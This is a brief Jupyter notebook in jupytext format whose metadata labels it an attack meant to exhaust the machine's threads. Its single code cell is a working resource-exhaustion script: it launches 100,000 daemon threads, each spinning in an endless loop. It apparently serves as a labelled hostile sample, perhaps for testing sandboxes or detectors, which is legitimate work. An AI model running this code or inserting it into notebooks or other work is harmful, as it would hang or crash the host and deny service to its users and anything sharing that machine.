# ---
# jupyter:
#   attack: {harm: "it would start threads until this machine has none left"}
# ---

# %% [markdown]
# Starts threads without end, each of which spins.

# %%
import threading


def spin():
    while True:
        pass


for _ in range(100_000):
    threading.Thread(target=spin, daemon=True).start()
